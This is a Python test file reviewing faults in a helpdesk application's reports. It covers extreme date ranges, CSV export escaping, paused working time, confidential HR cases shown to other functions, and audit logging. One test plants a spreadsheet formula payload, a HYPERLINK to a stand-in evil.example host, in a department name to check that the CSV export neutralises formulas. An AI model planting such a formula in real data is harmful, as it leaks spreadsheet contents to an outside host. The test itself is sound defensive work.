"""Review of #15: faults found in the reports."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from app.core.audit import AuditEntry
from app.core.db import db
from app.reports import queries
from app.tickets import services
from tests.reports.conftest import rated as _rated


@pytest.mark.parametrize("query", ["from=0001-01-01&to=0001-01-02", "from=9999-12-30&to=9999-12-31"])
@pytest.mark.parametrize("path", ["/reports/functions/it", "/reports/functions/it/weeks.csv",
                                  "/reports/functions/it/cases/opened", "/reports/departments",
                                  "/reports/self-service", "/reports/me"])
def test_a_period_at_the_ends_of_the_calendar_is_said_so_not_a_500(client, auth, leads, path, query):
    auth.login("ivar")
    assert client.get(f"{path}?{query}").status_code == 200


def test_a_department_name_cannot_become_a_spreadsheet_formula(client, auth, leads, create_ticket):
    leads["erik"].department = '=HYPERLINK("http://evil.example/?"&A1;"Klicka")'
    db.session.commit()
    create_ticket("it", "erik")
    auth.login("chef.admin")
    body = client.get("/reports/departments?format=csv").get_data(as_text=True)
    cells = [cell for line in body.lstrip("\ufeff").splitlines()[1:] for cell in line.split(";")]
    assert cells and not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)


def local(*parts):
    return datetime(*parts, tzinfo=queries.STOCKHOLM).astimezone(UTC)


def test_time_paused_before_the_first_answer_is_taken_off_it(app, people, create_ticket, calendar, mail_context,
                                                               monkeypatch):
    at = lambda *p: monkeypatch.setattr(services, "utcnow", lambda: local(*p))  # noqa: E731
    at(2026, 11, 30, 8, 0)  # Monday
    ticket = create_ticket("it", "erik")
    at(2026, 11, 30, 8, 30)  # put on hold (waiting for the requester) without a public answer
    services.change_status(ticket, people["ivar"], "waiting", calendar, mail_context)
    at(2026, 12, 1, 8, 0)  # the requester writes the next morning: 8h30 paused
    services.add_reply(ticket, people["erik"], "Jag är tillbaka.", public=True, calendar=calendar,
                       mail=mail_context)
    at(2026, 12, 1, 9, 0)
    services.add_reply(ticket, people["ivar"], "Starta om.", public=True, calendar=calendar, mail=mail_context)
    assert ticket.paused_minutes == 510
    assert ticket.first_response_minutes == 90  # 30 + 60 working minutes not paused; is 600


def test_the_rerouted_drill_down_does_not_show_another_functions_confidential_case(
        client, auth, leads, create_ticket, calendar, mail_context):
    ticket = create_ticket("it", "erik", subject="Min lön")
    services.reroute(ticket, leads["ivar"], "hr", "Gäller lönen", calendar, mail=mail_context)
    db.session.commit()
    auth.login("ivar")  # IT's lead (and specialist): may not read HR's cases
    page = client.get("/reports/functions/it/cases/rerouted").get_data(as_text=True)
    assert "Min lön" not in page  # holds
    assert ticket.number not in page  # fails: an HR case's number, dates and times shown outside HR


def test_own_figures_with_a_confidential_functions_comments_are_audited(client, auth, leads, create_ticket):
    _rated(create_ticket, "hr", "Handläggaren var otrevlig", leads["hugo"])
    auth.login("hugo")
    assert "otrevlig" in client.get("/reports/me").get_data(as_text=True)
    assert db.session.scalar(select(AuditEntry.id).where(AuditEntry.user_id == leads["hugo"].id)) is not None
